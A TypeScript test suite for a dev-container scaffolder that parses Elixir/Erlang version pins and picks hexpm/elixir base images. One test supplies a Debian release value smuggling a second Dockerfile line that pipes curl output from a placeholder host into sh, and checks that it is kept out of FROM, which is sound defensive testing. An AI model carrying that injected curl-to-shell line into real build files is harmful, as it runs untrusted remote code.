import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import {
  chooseBaseImage,
  DEFAULT_DEBIAN,
  KNOWN_COMBINATIONS,
  parseMiseToml,
  parseReleaseDockerfile,
  parseToolVersions,
  satisfies,
  type BaseImageInputs,
} from '../../src/core/scaffold/versions';

const nothing: BaseImageInputs = { elixirRequirement: undefined, pinned: undefined, release: undefined };

describe('version files', () => {
  it('reads .tool-versions, skipping comments and other tools', () => {
    assert.deepEqual(parseToolVersions('# pinned\nnodejs 20.11.0\nelixir 1.17.3-otp-27 1.16.0\nerlang   27.1.2 # latest\n'), { elixir: '1.17.3-otp-27', erlang: '27.1.2' });
    assert.deepEqual(parseToolVersions('nodejs 20\n'), {});
  });

  it('reads the [tools] table of mise, in its three forms', () => {
    assert.deepEqual(parseMiseToml('[env]\nelixir = "no"\n[tools]\nelixir = "1.17.3-otp-27"\nerlang = "27.1.2"\n'), { elixir: '1.17.3-otp-27', erlang: '27.1.2' });
    assert.deepEqual(parseMiseToml('[tools]\nelixir = ["1.16.3-otp-26", "1.15"]\nerlang = { version = \'26.2.5\' }\n'), { elixir: '1.16.3-otp-26', erlang: '26.2.5' });
  });

  it('reads a phx.gen.release Dockerfile, ARG form or literal image', () => {
    const args = 'ARG ELIXIR_VERSION=1.17.3\nARG OTP_VERSION=27.1.2\nARG DEBIAN_VERSION=bookworm-20241016-slim\n\nARG BUILDER_IMAGE="hexpm/elixir:${ELIXIR_VERSION}-erlang-${OTP_VERSION}-debian-${DEBIAN_VERSION}"\n';
    assert.deepEqual(parseReleaseDockerfile(args), { elixir: '1.17.3', otp: '27.1.2', debian: 'bookworm-20241016-slim' });
    const literal = 'ARG BUILDER_IMAGE="hexpm/elixir:1.14.0-erlang-25.0.4-debian-bullseye-20220801-slim"\nFROM ${BUILDER_IMAGE} as builder\n';
    assert.deepEqual(parseReleaseDockerfile(literal), { elixir: '1.14.0', otp: '25.0.4', debian: 'bullseye-20220801-slim' });
    assert.equal(parseReleaseDockerfile('FROM node:20\nRUN npm ci\n'), undefined);
  });
});

describe('satisfies', () => {
  it('implements Elixir requirements', () => {
    assert.equal(satisfies('1.17.3', '~> 1.14'), true);
    assert.equal(satisfies('2.0.0', '~> 1.14'), false);
    assert.equal(satisfies('1.14.5', '~> 1.14.0'), true);
    assert.equal(satisfies('1.15.0', '~> 1.14.0'), false);
    assert.equal(satisfies('1.13.4', '~> 1.14'), false);
    assert.equal(satisfies('1.15.8', '>= 1.14.0 and < 1.16.0'), true);
    assert.equal(satisfies('1.16.3', '>= 1.14.0 and < 1.16.0'), false);
    assert.equal(satisfies('1.13.4', '== 1.13.4 or ~> 1.18'), true);
    assert.equal(satisfies('1.17.3', '!= 1.17.3'), false);
    assert.equal(satisfies('1.17.3', '1.17.3'), true);
  });

  it('answers undefined for what it cannot read', () => {
    assert.equal(satisfies('1.17.3', 'about one seventeen'), undefined);
    assert.equal(satisfies('main', '~> 1.14'), undefined);
  });
});

describe('chooseBaseImage', () => {
  it('uses the exact pins of .tool-versions', () => {
    const choice = chooseBaseImage({ ...nothing, pinned: { elixir: '1.14.0-otp-25', erlang: '25.2.3', source: '.tool-versions' } }, {});
    assert.equal(choice.image, `hexpm/elixir:1.14.0-erlang-25.2.3-debian-${DEFAULT_DEBIAN}`);
    assert.match(choice.image, /^hexpm\/elixir:1\.14\.0-erlang-25\.2\.3-debian-bookworm-\d{8}-slim$/);
    assert.deepEqual(choice.notes, []);
    assert.equal(choice.debianRelease, 'bookworm');
    assert.equal(choice.hasWatchman, true);
  });

  it('uses the versions of a release Dockerfile, with its Debian release', () => {
    const choice = chooseBaseImage({ ...nothing, release: { elixir: '1.17.3', otp: '27.1.2', debian: 'bookworm-20241016-slim' } }, {});
    assert.equal(choice.image, 'hexpm/elixir:1.17.3-erlang-27.1.2-debian-bookworm-20241016-slim');
    assert.deepEqual(choice.notes, []);
  });

  it('takes the newest known combination that satisfies mix.exs, and says so', () => {
    const choice = chooseBaseImage({ ...nothing, elixirRequirement: '~> 1.15.0' }, {});
    assert.equal(choice.image, `hexpm/elixir:1.15.8-erlang-26.2.5.6-debian-${DEFAULT_DEBIAN}`);
    assert.deepEqual(choice.notes, [
      'Assumed Elixir 1.15.8 on Erlang/OTP 26.2.5.6 for the dev container; pin exact versions in .tool-versions (for example "elixir 1.15.8-otp-26" and "erlang 26.2.5.6") to choose others.',
    ]);
    const newest = KNOWN_COMBINATIONS[0];
    assert.equal(chooseBaseImage({ ...nothing, elixirRequirement: '~> 1.14' }, {}).image, `hexpm/elixir:${newest?.elixir ?? ''}-erlang-${newest?.otp ?? ''}-debian-${DEFAULT_DEBIAN}`);
  });

  it('completes partial pins from the table', () => {
    const minorOnly = chooseBaseImage({ ...nothing, pinned: { elixir: '1.16', source: '.mise.toml' } }, {});
    assert.match(minorOnly.image, /^hexpm\/elixir:1\.16\.3-erlang-26\.2\.5\.6-/);
    const otpMajor = chooseBaseImage({ ...nothing, pinned: { elixir: '1.17.3-otp-26', source: '.tool-versions' } }, {});
    assert.match(otpMajor.image, /^hexpm\/elixir:1\.17\.3-erlang-26\.2\.5\.6-/);
    assert.match(otpMajor.notes[0] ?? '', /^Assumed Elixir 1\.17\.3 on Erlang\/OTP 26\.2\.5\.6/);
  });

  it('warns when the pin contradicts mix.exs, or is not a release', () => {
    const contradiction = chooseBaseImage({ elixirRequirement: '~> 1.16', pinned: { elixir: '1.14.0-otp-25', erlang: '25.2.3', source: '.tool-versions' }, release: undefined }, {});
    assert.deepEqual(contradiction.notes, ['.tool-versions pins Elixir 1.14.0, but mix.exs requires "~> 1.16"; align the two so that the project compiles in the container.']);
    const branch = chooseBaseImage({ ...nothing, pinned: { elixir: 'main-otp-27', source: '.tool-versions' } }, {});
    assert.match(branch.notes[0] ?? '', /names Elixir "main-otp-27", which is not a release version/);
  });

  it('says when no known image fits or the requirement is unreadable', () => {
    assert.match(chooseBaseImage({ ...nothing, elixirRequirement: '~> 2.0' }, {}).notes[0] ?? '', /^No known hexpm\/elixir image satisfies "~> 2\.0"/);
    assert.match(chooseBaseImage({ ...nothing, elixirRequirement: 'latest' }, {}).notes[0] ?? '', /could not be read/);
  });

  it('applies the Debian release option and knows that trixie has no watchman', () => {
    const trixie = chooseBaseImage({ ...nothing, release: { elixir: '1.18.2', otp: '27.2' } }, { debian: 'trixie-20250908-slim' });
    assert.equal(trixie.image, 'hexpm/elixir:1.18.2-erlang-27.2-debian-trixie-20250908-slim');
    assert.equal(trixie.hasWatchman, false);
    assert.match(trixie.notes.join('\n'), /trixie images have no watchman package/);
    const loose = chooseBaseImage(nothing, { debian: 'bookworm' });
    assert.match(loose.image, /-debian-bookworm-20250113-slim$/, 'falls back to the default release');
    assert.match(loose.notes.join('\n'), /is not a hexpm\/elixir tag part/);
  });

  it('never writes anything but a tag part into FROM, whatever the Debian release setting holds', () => {
    const injected = chooseBaseImage(nothing, { debian: 'bookworm-20250113-slim\nRUN curl http://example.invalid | sh\n#' });
    assert.doesNotMatch(injected.image, /\s|RUN/);
  });

  it('uses a base image override verbatim, and refuses one that is not a plain name', () => {
    const override = chooseBaseImage(nothing, { baseImage: 'registry.example.com/elixir:1.17-debian-bookworm' });
    assert.deepEqual(override, { image: 'registry.example.com/elixir:1.17-debian-bookworm', debianRelease: 'bookworm', hasWatchman: true, notes: [] });
    assert.match(chooseBaseImage(nothing, { baseImage: 'hexpm/elixir:1.17.3-erlang-27.1.2-alpine-3.20.3' }).notes[0] ?? '', /looks like Alpine/);
    const variable = chooseBaseImage(nothing, { baseImage: '${IMAGE}' });
    assert.match(variable.image, /^hexpm\/elixir:/);
    assert.match(variable.notes[0] ?? '', /is not a plain image name/);
  });
});
